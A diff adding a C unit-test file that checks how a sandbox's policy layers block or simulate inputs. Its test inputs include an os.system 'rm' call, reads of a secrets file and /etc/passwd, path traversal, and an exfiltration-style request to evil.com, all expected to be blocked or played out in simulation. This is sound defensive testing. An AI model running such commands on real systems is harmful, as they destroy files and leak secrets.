@@ -1,0 +1,414 @@
+/*
+ * test_session.c -- the flow of inputs through the layers, checked through
+ * the records a user sees: verdict, deciding layer, rule, offending node and
+ * span, effects, filesystem listing, budget, and the trace line.
+ */
+#include "config.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include <jansson.h>
+
+#include "arena.h"
+#include "mockfs.h"
+#include "policy.h"
+#include "record.h"
+#include "sbuf.h"
+#include "session.h"
+
+struct fixture {
+	struct session	*s;
+	struct arena	*a;
+};
+
+static int
+setup(void **state)
+{
+	struct fixture *f = calloc(1, sizeof *f);
+	struct session_opts o = { 0 };
+	f->s = session_new(&o);
+	f->a = arena_new();
+	*state = f;
+	return 0;
+}
+
+static int
+teardown(void **state)
+{
+	struct fixture *f = *state;
+	session_free(f->s);
+	arena_free(f->a);
+	free(f);
+	return 0;
+}
+
+/* Run input on one path; return its record. */
+static struct record *
+run1(struct fixture *f, enum path_id p, const char *input)
+{
+	struct record *r;
+	size_t n = session_run(f->s, input, strlen(input), NULL, PATH_BIT(p),
+	    f->a, &r);
+	assert_int_equal(n, 1);
+	assert_int_equal(r->path, p);
+	return r;
+}
+
+static bool
+fs_has(const struct record *r, const char *name)
+{
+	size_t i;
+	for (i = 0; i < r->nfs; i++)
+		if (strcmp(r->fs[i], name) == 0)
+			return true;
+	return false;
+}
+
+static void
+test_essay_code(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_SANDBOX,
+	    "round(sum(orders) / len(orders), 2)");
+	assert_int_equal(r->verdict, VERDICT_OK);
+	assert_string_equal(r->result, "173.33");
+	assert_int_equal(r->budget_used, 1);
+	assert_int_equal(r->budget_limit, POLICY_DEFAULT_BUDGET);
+	assert_string_equal(r->line, "sandboxed code: "
+	    "'round(sum(orders) / len(orders), 2)' -> 173.33");
+}
+
+static void
+test_import_blocked_on_outer_call(void **state)
+{
+	struct fixture *f = *state;
+	const char *in = "__import__('os').system('rm report.txt')";
+	struct record *r = run1(f, PATH_SANDBOX, in);
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_int_equal(r->layer, LAYER_ALLOWLIST);
+	assert_string_equal(r->rule, "calls");
+	assert_string_equal(r->reason, "disallowed function call");
+	assert_true(r->has_node);
+	assert_string_equal(r->node_type, "Call");
+	assert_int_equal(r->node_start, 0);
+	assert_int_equal(r->node_end, strlen(in));
+	assert_true(fs_has(r, "report.txt"));
+	assert_int_equal(r->budget_used, 0);	/* blocked: not charged */
+}
+
+static void
+test_unsafe_plays_out_damage(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_UNSAFE,
+	    "__import__('os').system('rm report.txt')");
+	size_t i;
+	bool deleted = false;
+	assert_int_equal(r->verdict, VERDICT_SIMULATED);
+	assert_string_equal(r->outcome,
+	    "[SIMULATED damage] arbitrary code ran; report.txt deleted");
+	assert_false(fs_has(r, "report.txt"));
+	assert_true(fs_has(r, "secrets.txt"));
+	for (i = 0; i < r->neffects; i++)
+		if (strcmp(r->effects[i].op, "delete") == 0 &&
+		    strcmp(r->effects[i].target, "report.txt") == 0) {
+			deleted = true;
+			assert_true(r->effects[i].simulated);
+			assert_false(r->effects[i].denied);
+		}
+	assert_true(deleted);
+	/* The sandbox path's filesystem is its own. */
+	r = run1(f, PATH_SANDBOX, "len(orders)");
+	assert_true(fs_has(r, "report.txt"));
+}
+
+static void
+test_unsafe_reads_secret(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_UNSAFE, "open('secrets.txt').read()");
+	assert_int_equal(r->verdict, VERDICT_OK);
+	assert_string_equal(r->result, "'API_KEY=sk-live-9f3a2b'");
+	r = run1(f, PATH_SANDBOX, "open('secrets.txt').read()");
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_string_equal(r->reason, "disallowed function call");
+}
+
+static void
+test_command_allowlist(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_SANDBOX,
+	    "delete_file({'path': 'secrets.txt'})");
+	assert_int_equal(r->kind, KIND_COMMAND);
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_int_equal(r->layer, LAYER_COMMANDS);
+	assert_string_equal(r->reason,
+	    "command 'delete_file' not on the allowlist");
+	assert_int_equal(r->neffects, 1);
+	assert_string_equal(r->effects[0].op, "delete");
+	assert_string_equal(r->effects[0].target, "secrets.txt");
+	assert_true(r->effects[0].denied);
+	assert_true(fs_has(r, "secrets.txt"));
+	r = run1(f, PATH_UNSAFE, "delete_file({'path': 'secrets.txt'})");
+	assert_int_equal(r->verdict, VERDICT_SIMULATED);
+	assert_string_equal(r->outcome, "[SIMULATED damage] deleted secrets.txt");
+	assert_false(fs_has(r, "secrets.txt"));
+}
+
+static void
+test_argument_code_goes_through_policy(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_SANDBOX,
+	    "write_file({'path': 'x.txt', 'text': open('secrets.txt').read()})");
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_int_equal(r->layer, LAYER_ALLOWLIST);
+	assert_false(fs_has(r, "x.txt"));
+	r = run1(f, PATH_SANDBOX,
+	    "write_file({'path': 'n.txt', 'text': 'a' * 3})");
+	assert_int_equal(r->verdict, VERDICT_OK);
+	assert_string_equal(r->outcome, "wrote n.txt");
+	r = run1(f, PATH_SANDBOX, "read_file({'path': 'n.txt'})");
+	assert_string_equal(r->outcome, "aaa");
+}
+
+static void
+test_budget_exhaustion(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r;
+	session_set_budget(f->s, 2);
+	r = run1(f, PATH_SANDBOX, "1 + 1");
+	assert_int_equal(r->verdict, VERDICT_OK);
+	r = run1(f, PATH_SANDBOX, "read_file({'path': 'report.txt'})");
+	assert_int_equal(r->verdict, VERDICT_OK);
+	assert_int_equal(r->budget_used, 2);
+	r = run1(f, PATH_SANDBOX, "2 + 2");
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_int_equal(r->layer, LAYER_BUDGET);
+	assert_string_equal(r->reason,
+	    "budget exhausted (2 of 2 operations used)");
+	assert_null(r->result);
+	r = run1(f, PATH_SANDBOX, "write_file({'path': 'o', 'text': 'x'})");
+	assert_int_equal(r->layer, LAYER_BUDGET);
+	assert_false(fs_has(r, "o"));
+	/* Blocked earlier layers do not reach the budget. */
+	r = run1(f, PATH_SANDBOX, "delete_file({'path': 'o'})");
+	assert_int_equal(r->layer, LAYER_COMMANDS);
+	/* The unsafe path has no budget. */
+	r = run1(f, PATH_UNSAFE, "2 + 2");
+	assert_string_equal(r->result, "4");
+	assert_int_equal(r->budget_limit, 0);
+}
+
+static void
+test_idempotency(void **state)
+{
+	struct fixture *f = *state;
+	const char *w = "write_file({'path': 'out.txt', 'text': 'ok'})";
+	struct record *r = run1(f, PATH_SANDBOX, w);
+	assert_string_equal(r->outcome, "wrote out.txt");
+	assert_int_equal(r->neffects, 1);
+	r = run1(f, PATH_SANDBOX, w);
+	assert_int_equal(r->verdict, VERDICT_OK);
+	assert_int_equal(r->layer, LAYER_IDEMPOTENCY);
+	assert_string_equal(r->outcome,
+	    "wrote out.txt (idempotent: already done)");
+	assert_int_equal(r->neffects, 0);	/* nothing written twice */
+	/* Same arguments in another key order are the same operation. */
+	r = run1(f, PATH_SANDBOX,
+	    "write_file({'text': 'ok', 'path': 'out.txt'})");
+	assert_int_equal(r->layer, LAYER_IDEMPOTENCY);
+	/* An explicit key reused with different arguments is refused. */
+	r = run1(f, PATH_SANDBOX, "write_file({'path': 'a.txt', 'text': '1', "
+	    "'idempotency_key': 'k1'})");
+	assert_int_equal(r->verdict, VERDICT_OK);
+	r = run1(f, PATH_SANDBOX, "write_file({'path': 'a.txt', 'text': '2', "
+	    "'idempotency_key': 'k1'})");
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_int_equal(r->layer, LAYER_IDEMPOTENCY);
+	assert_string_equal(r->reason, "idempotency key 'k1' was already "
+	    "used with different arguments");
+	r = run1(f, PATH_SANDBOX, "read_file({'path': 'a.txt'})");
+	assert_string_equal(r->outcome, "1");
+}
+
+static void
+test_surface(void **state)
+{
+	struct fixture *f = *state;
+	static const char *const bad[] = {
+		"read_file({'path': '../secrets.txt'})",
+		"read_file({'path': '/etc/passwd'})",
+		"write_file({'path': 'a/../../x', 'text': 'x'})",
+		"read_file({'path': ''})",
+	};
+	size_t i;
+	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		struct record *r = run1(f, PATH_SANDBOX, bad[i]);
+		assert_int_equal(r->verdict, VERDICT_BLOCKED);
+		assert_int_equal(r->layer, LAYER_SURFACE);
+	}
+	{
+		struct record *r = run1(f, PATH_SANDBOX,
+		    "read_file({'path': '/etc/passwd'})");
+		assert_string_equal(r->reason, "path '/etc/passwd' is "
+		    "absolute: outside the workspace");
+	}
+}
+
+static void
+test_network_even_when_allowed(void **state)
+{
+	struct fixture *f = *state;
+	static const char *const cmds[] = { "read_file", "http_get", NULL };
+	struct policy p = *policy_preset("essay");
+	struct record *r;
+	p.commands = cmds;
+	session_set_policy(f->s, &p);
+	r = run1(f, PATH_SANDBOX,
+	    "http_get({'url': 'https://evil.com/x', 'body': 'secrets'})");
+	assert_int_equal(r->verdict, VERDICT_BLOCKED);
+	assert_int_equal(r->layer, LAYER_NETWORK);
+	assert_string_equal(r->reason,
+	    "host 'evil.com' is not reachable (no network)");
+	assert_true(r->effects[0].denied);
+	session_set_policy(f->s, policy_preset("essay"));
+}
+
+static void
+test_bad_command_arguments(void **state)
+{
+	struct fixture *f = *state;
+	static const char *const bad[] = {
+		"read_file('report.txt')",
+		"read_file({'path': 1})",
+		"read_file({})",
+		"read_file({'path': 'report.txt', 'mode': 'w'})",
+		"read_file()",
+		"read_file({'path': 'a'}, {'path': 'b'})",
+	};
+	size_t i;
+	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		struct record *r = run1(f, PATH_SANDBOX, bad[i]);
+		assert_int_equal(r->verdict, VERDICT_ERROR);
+		assert_int_equal(r->layer, LAYER_COMMANDS);
+		assert_non_null(strstr(r->reason, "TypeError"));
+		r = run1(f, PATH_UNSAFE, bad[i]);
+		assert_int_equal(r->verdict, VERDICT_ERROR);
+	}
+}
+
+static void
+test_errors_are_records(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_SANDBOX, "1 +");
+	assert_int_equal(r->verdict, VERDICT_ERROR);
+	assert_int_equal(r->layer, LAYER_PARSE);
+	assert_non_null(strstr(r->reason, "SyntaxError"));
+	r = run1(f, PATH_SANDBOX, "1 / 0");
+	assert_int_equal(r->verdict, VERDICT_ERROR);
+	assert_int_equal(r->layer, LAYER_EVAL);
+	assert_string_equal(r->reason, "ZeroDivisionError: division by zero");
+	assert_string_equal(r->node_type, "BinOp");
+	r = run1(f, PATH_SANDBOX, "open");
+	assert_string_equal(r->reason,
+	    "NameError: name 'open' is not defined");
+	r = run1(f, PATH_SANDBOX, "1 << 2");
+	assert_int_equal(r->layer, LAYER_ALLOWLIST);
+	assert_string_equal(r->rule, "operators");
+}
+
+static void
+test_deep_nesting_is_an_error_record(void **state)
+{
+	struct fixture *f = *state;
+	size_t n = 100000, i;
+	char *in = malloc(2 * n + 2);
+	struct record *r;
+	clock_t t0;
+	for (i = 0; i < n; i++)
+		in[i] = '(';
+	in[n] = '1';
+	for (i = 0; i < n; i++)
+		in[n + 1 + i] = ')';
+	in[2 * n + 1] = '\0';
+	t0 = clock();
+	r = run1(f, PATH_SANDBOX, in);
+	/* A hang guard, not a benchmark: far above the real cost. */
+	assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 2.0);
+	assert_int_equal(r->verdict, VERDICT_ERROR);
+	assert_int_equal(r->layer, LAYER_PARSE);
+	memset(in, '-', n);
+	in[n] = '1';
+	in[n + 1] = '\0';
+	r = run1(f, PATH_UNSAFE, in);
+	assert_int_equal(r->verdict, VERDICT_ERROR);
+	free(in);
+}
+
+static void
+test_json_record_fields(void **state)
+{
+	struct fixture *f = *state;
+	struct record *r = run1(f, PATH_SANDBOX,
+	    "__import__('os').system('rm report.txt')");
+	struct sbuf b = SBUF_INIT;
+	json_error_t err;
+	json_t *o;
+	static const char *const keys[] = { "step", "path", "input", "kind",
+	    "verdict", "layer", "reason", "node", "result", "effects", "fs",
+	    "budget", "line" };
+	size_t i;
+
+	record_json(r, &b);
+	o = json_loads(sbuf_cstr(&b), 0, &err);
+	assert_non_null(o);
+	for (i = 0; i < sizeof keys / sizeof keys[0]; i++)
+		assert_non_null(json_object_get(o, keys[i]));
+	assert_string_equal(json_string_value(json_object_get(o, "verdict")),
+	    "blocked");
+	assert_string_equal(json_string_value(json_object_get(o, "layer")),
+	    "allowlist");
+	assert_string_equal(json_string_value(json_object_get(
+	    json_object_get(o, "node"), "type")), "Call");
+	assert_int_equal(json_integer_value(json_object_get(
+	    json_object_get(o, "node"), "end")), 40);
+	assert_int_equal(json_array_size(json_object_get(o, "fs")), 2);
+	assert_true(json_is_null(json_object_get(o, "result")));
+	json_decref(o);
+	sbuf_free(&b);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)
+		T(test_essay_code),
+		T(test_import_blocked_on_outer_call),
+		T(test_unsafe_plays_out_damage),
+		T(test_unsafe_reads_secret),
+		T(test_command_allowlist),
+		T(test_argument_code_goes_through_policy),
+		T(test_budget_exhaustion),
+		T(test_idempotency),
+		T(test_surface),
+		T(test_network_even_when_allowed),
+		T(test_bad_command_arguments),
+		T(test_errors_are_records),
+		T(test_deep_nesting_is_an_error_record),
+		T(test_json_record_fields),
+#undef T
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
